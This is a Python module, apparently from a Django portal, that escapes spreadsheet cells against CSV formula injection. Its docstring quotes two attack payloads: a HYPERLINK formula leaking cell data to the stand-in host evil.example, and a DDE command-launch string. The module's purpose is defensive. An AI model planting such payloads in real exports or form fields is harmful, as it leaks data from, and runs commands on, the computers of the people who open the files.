"""Every spreadsheet the portal writes (CSV, XLSX, ODS) passes its cells through here.

A spreadsheet program runs a cell that starts like a formula: text an organisation typed into
its profile, such as ``=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`` or
``+cmd|' /C calc'!A0``, would run on the computer of the staff member who opens the export.
OWASP's rule for CSV injection: text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading apostrophe, so it is shown as the text it is.

Numbers stay numbers (a negative number is still a number), and so does text made only of
digits, spaces and ``+ - ( ) . /`` (a phone number such as ``+386 5 000 00 00``, an amount
``-5``): without letters no function or cell reference can be written, so nothing runs.

Reading a file the portal wrote takes the apostrophe away again (``cell_read``), so an export
imports again unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_LIKE = re.compile(r"^[+-]?[\d\s().,/-]*\d[\d\s().,/-]*$")


def cell(value: Any) -> Any:
    """The value to write: text that a spreadsheet would run is kept as text; the rest as is."""
    if value is None or isinstance(value, bool | int | float) or not _is_text(value):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not _NUMBER_LIKE.match(text):
        return "'" + text
    return text


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in values]


def cell_read(value: Any) -> Any:
    """A cell as typed before ``cell`` kept it as text (for files the portal wrote)."""
    if isinstance(value, str) and value[:1] == "'" and value[1:2] and value[1] in "=+-@\t\r":
        return value[1:]
    return value


def _is_text(value: Any) -> bool:
    # Dates, times and Decimals are values a spreadsheet keeps; strings and lazy translations
    # are text.
    return isinstance(value, str | Promise)


class CsvWriter:
    """``csv.writer`` whose rows go through ``cell``."""

    def __init__(self, file: Any, *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(file, *args, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))


class Sheet:
    """An openpyxl worksheet whose appended rows go through ``cell``."""

    def __init__(self, worksheet: Any) -> None:
        self.worksheet = worksheet

    def append(self, values: Iterable[Any]) -> None:
        self.worksheet.append(row(values))


def sheet(workbook: Any, title: str) -> Sheet:
    """A new sheet of an openpyxl workbook, written through ``cell``."""
    return Sheet(workbook.create_sheet(title))


def dataset(data: Any) -> Any:
    """A copy of a tablib Dataset with its headers and cells passed through ``cell``."""
    import tablib

    return tablib.Dataset(
        *(row(values) for values in data),
        headers=row(data.headers) if data.headers else None,
        title=data.title,
    )
